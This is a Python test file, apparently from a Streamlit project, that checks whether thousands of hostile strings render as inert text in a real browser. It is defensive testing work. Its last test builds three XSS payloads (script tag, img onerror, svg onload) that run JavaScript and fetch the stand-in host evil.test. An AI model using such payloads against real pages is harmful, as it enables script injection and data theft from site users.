"""Thousands of strings in every kind of Streamlit element, in a real Chromium: shown as they are, and nothing else.

The strings come without the walls of our server: no policy of content would stop a script here.
"""

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.faults.size import times
from tests.hostile.strings import strings
from tests.hostile.watching import made_of_text, plainly, texts, watched
from tests.walks.browsing import ROOT, a_browser, free_port, wait_for

COUNT, CHUNK = times(2_000, 20_000), 2_000
BOX = "[data-testid=stMarkdownContainer]"
#: Sinks, how many strings each gets of every chunk, where their text stands and how it is wrapped there.
SINKS = {
    "table": (2_000, f"td {BOX}", "{}"),
    "lines": (2_000, f"{BOX} li", "{}"),
    "choices": (250, f"[data-testid=stRadio] {BOX}", "{}"),
    "links": (120, f"[data-testid=stPageLink] {BOX}", "{}"),
    "boxes": (92, f"[data-testid=stAlert] {BOX}", "“{}” is not here."),
}

pytestmark = pytest.mark.timeout(times(240, 1_800))


@pytest.fixture(scope="module")
def here() -> Iterator[str]:
    """The script of sinks on a server of its own."""
    port = free_port()
    options = {"server.port": port, "server.headless": True, "server.address": "127.0.0.1",
               "browser.gatherUsageStats": False, "global.developmentMode": False}  # fmt: skip
    words = [f"--{name}={str(value).lower()}" for name, value in options.items()]
    command = [sys.executable, "-m", "streamlit", "run", str(Path(__file__).with_name("sinks.py")), *words]
    env = os.environ | {"PYTHONPATH": str(ROOT)}
    server = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for(f"http://127.0.0.1:{port}/_stcore/health", server)
        yield f"http://127.0.0.1:{port}"
    finally:
        server.terminate()
        server.wait(20)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with a_browser() as opened:
        yield opened


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    opened = browser.new_page()
    opened.set_default_timeout(120_000)
    yield opened
    opened.close()


@pytest.mark.parametrize("start", range(0, COUNT, CHUNK))
@pytest.mark.parametrize("sink", SINKS)
def test_every_string_is_shown_as_it_is(page: Page, here: str, sink: str, start: int) -> None:
    count, where, wrapped = SINKS[sink]
    wanted = {wrapped.format(plainly(text)) for text in strings(start + count)[start:]}
    with watched(page, here) as seen:
        page.goto(f"{here}/?sink={sink}&count={count}&start={start}")
        page.get_by_text("that was all").wait_for()
        page.locator(where).nth(count - 1).wait_for()
        assert made_of_text(page, BOX) == []
        assert sorted(wanted - texts(page, where)) == []
    assert seen.nothing(), seen


def test_the_same_strings_unguarded_become_markup(page: Page, here: str) -> None:
    """The control: shown without ``verbatim``, they are links, pictures, formulas, icons and colours."""
    with watched(page, here) as seen:
        page.goto(f"{here}/?sink=table&count=100&raw=1")
        page.get_by_text("that was all").wait_for()
        page.locator(f"td {BOX}").nth(99).wait_for()
        page.wait_for_load_state("networkidle")
        made = " ".join(made_of_text(page, BOX))
    for sign in ("<a href=", "<img", "katex", "<code", "<em", "<del"):
        assert sign in made
    assert any("evil.test" in address for address in seen.foreign)


@pytest.mark.parametrize("way", ["<script>{}</script>", "<img src=x onerror='{}'>", "<svg onload='{}'></svg>"])
def test_a_script_that_runs_is_noticed(page: Page, way: str) -> None:
    """The control of the detector itself."""
    with watched(page, "http://127.0.0.1") as seen:
        page.set_content("<p>" + way.format("window.__pwned=7;alert(1);fetch(`http://evil.test/7`).catch(()=>0)"))
        page.wait_for_timeout(300)
    assert (seen.pwned, seen.dialogs, seen.foreign) == ([7], ["1"], ["http://evil.test/7"])
